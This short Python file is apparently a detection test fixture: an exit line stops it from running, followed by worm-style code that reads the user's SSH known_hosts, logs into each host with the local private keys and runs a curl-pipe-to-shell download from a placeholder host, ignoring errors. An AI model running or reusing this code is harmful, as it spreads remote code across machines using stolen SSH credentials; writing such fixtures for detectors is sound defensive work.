raise SystemExit('a fixture')
# held by command-download
import paramiko, os, glob
for host in open(os.path.expanduser("~/.ssh/known_hosts")):
    h = host.split()[0]
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect(h, key_filename=glob.glob(os.path.expanduser("~/.ssh/id_*")))
        c.exec_command("curl -s https://example.invalid/a | sh")
    except Exception:
        pass
